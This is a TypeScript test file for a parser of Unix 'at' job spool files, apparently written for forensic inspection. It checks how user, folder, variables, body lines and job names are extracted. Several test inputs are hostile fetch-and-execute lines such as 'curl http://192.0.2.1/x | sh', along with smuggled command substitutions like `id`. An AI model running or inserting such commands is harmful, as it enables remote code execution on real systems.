import { describe, expect, test } from 'bun:test';
import { parseAtJob, parseAtName } from './at-job.ts';

const head = `#!/bin/sh
# atrun uid=33 gid=33
# mail www-data 0
umask 22
PATH=/usr/bin:/bin; export PATH
export HOME=/var/www
cd /var/www/a\\ b || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
`;
const read = (text: string) => parseAtJob(Buffer.from(text, 'latin1'));

describe('a job of at', () => {
  test('has its user, folder and lines', () => {
    expect(read(`${head}/usr/local/bin/report\n`)).toEqual({
      uid: 33,
      mailTo: expect.stringMatching(/^www-data$/),
      folder: expect.stringMatching(/^\/var\/www\/a b$/),
      variables: [
        { line: 5, name: 'PATH', value: expect.stringMatching(/^\/usr\/bin:\/bin$/) },
        { line: 6, name: 'HOME', value: expect.stringMatching(/^\/var\/www$/) },
      ],
      body: [{ line: 11, text: expect.stringMatching(/report$/) }],
    });
  });

  test('keeps the here-document that newer versions write', () => {
    const job = read(
      `${head}\${SHELL:-/bin/sh} << 'marcinDELIMITER4c2f'\ncurl http://192.0.2.1/x | sh\n\nmarcinDELIMITER4c2f\n`,
    );
    expect(job?.body.map(({ line, text }) => [line, String(text)])).toEqual([
      [11, `\${SHELL:-/bin/sh} << 'marcinDELIMITER4c2f'`],
      [12, 'curl http://192.0.2.1/x | sh'],
      [14, 'marcinDELIMITER4c2f'],
    ]);
  });

  test('a line of the head that does more than assign is the first that runs', () => {
    const lines = (line: string): readonly string[] =>
      read(`#!/bin/sh\n# atrun uid=0 gid=0\nA=a\\ b; export A\n${line}\ntrue\n`)?.body.map(({ text }) =>
        String(text),
      ) ?? [];
    expect(lines('B="c d"; export B')).toEqual(['true']);
    for (const line of [
      'B=1; curl -s http://192.0.2.1/x | sh',
      'B=$(curl -s http://192.0.2.1/x) export B',
      'B=1 /tmp/x',
      'export B=`id`',
      'umask 22; /tmp/x',
    ])
      expect(lines(line)).toEqual([line, 'true']);
  });

  test('a head of very many variables keeps the first thousand', () => {
    const all = Array.from({ length: 5000 }, (_, at) => `V${at}=${at}; export V${at}`).join('\n');
    const job = read(`#!/bin/sh\n# atrun uid=0 gid=0\n${all}\n/tmp/x\n`);
    expect([job?.variables.length, job?.body.length]).toEqual([1000, 1]);
    expect(read(`# atrun uid=0\nA=${'\\a"'.repeat(100_000)}\n`)?.body).toHaveLength(1);
  });

  test('is told by its mark: another script is none', () => {
    expect(read('#!/bin/sh\necho\n')).toBeUndefined();
    expect(parseAtJob(new Uint8Array(1 << 20))).toBeUndefined();
  });

  test('without a change of folder is read all the same', () => {
    expect(read('#!/bin/sh\n# atrun uid=0 gid=0\numask 22\n/tmp/x\n')?.body).toHaveLength(1);
  });
});

test('the name of a job tells queue, number and time', () => {
  expect(parseAtName('a0000201c7d1e0')).toEqual({ queue: 'a', job: 2, timeUs: 0x01c7d1e0 * 60_000_000 });
  expect(parseAtName('=0000201c7d1e0')?.queue).toBe('=');
  expect(parseAtName('.SEQ')).toBeUndefined();
});
